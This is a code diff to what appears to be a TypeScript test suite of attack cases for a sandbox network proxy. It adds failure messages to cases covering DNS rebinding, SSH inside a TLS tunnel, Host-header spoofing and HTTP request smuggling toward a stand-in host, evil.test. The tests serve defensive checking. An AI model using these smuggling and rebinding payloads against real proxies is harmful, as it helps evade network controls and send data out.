@@ -1,6 +1,6 @@
 import type { AttackCase } from "../attack-case.ts";
 import { addresses } from "../fake-internet/zone.ts";
-import { networkAttack, python, type NetworkScene } from "./network-attack.ts";
+import { type NetworkScene, networkAttack, python } from "./network-attack.ts";
 
 const sandboxes = ["allowing"] as const;
 
@@ -118,6 +118,7 @@ export const proxyCases: readonly AttackCase[] = [
     attack: 41,
     title: "A name that resolves to a public address once and to the loopback the next time",
     protection: "a name is resolved once, and the judged address is dialled",
+    failure: "only the public address was dialled",
     sandboxes,
     program: ({ token, target }) =>
       send(
@@ -148,6 +149,7 @@ export const proxyCases: readonly AttackCase[] = [
     attack: 43,
     title: "SSH and plain bytes in a tunnel that is for TLS",
     protection: "only TLS goes through CONNECT, unless a tcp rule says otherwise",
+    failure: "nothing arrived; the tunnel was closed",
     sandboxes,
     program: ({ token, target }) =>
       send(target, [`CONNECT allowed.test:9000 HTTP/1.1\r\nHost: allowed.test\r\n\r\nSSH-2.0-${token}\r\n`]),
@@ -157,18 +159,20 @@ export const proxyCases: readonly AttackCase[] = [
     attack: 44,
     title: "A request for an allowed host, with another host in its Host header",
     protection: "Host is written anew from the target",
+    failure: "the request arrived with its Host written anew",
     sandboxes,
     program: ({ token, target }) => send(target, [get(`http://allowed.test/${token}`, "evil.test")]),
     arrived: (arrival, { token }) =>
       arrival.kind === "request" &&
       arrival.target.includes(token) &&
-      arrival.headers["host"]?.includes("evil") === true,
+      arrival.headers.host?.includes("evil") === true,
   }),
   networkAttack({
     name: "smuggled-request",
     attack: 45,
     title: "A second request behind the first, alone or in the gap between Content-Length and chunks",
     protection: "a strict parser; each request is judged for itself",
+    failure: "only the first request arrived",
     sandboxes,
     program: ({ token, target }) => {
       const inner = `GET http://evil.test/${token} HTTP/1.1\r\nHost: evil.test\r\n\r\n`;
@@ -183,7 +187,7 @@ export const proxyCases: readonly AttackCase[] = [
     arrived: (arrival, { token }) =>
       arrival.kind === "request" &&
       arrival.target.includes(token) &&
-      (arrival.to === addresses.attacker || arrival.headers["host"] === "evil.test"),
+      (arrival.to === addresses.attacker || arrival.headers.host === "evil.test"),
   }),
   networkAttack({
     name: "hostile-targets",
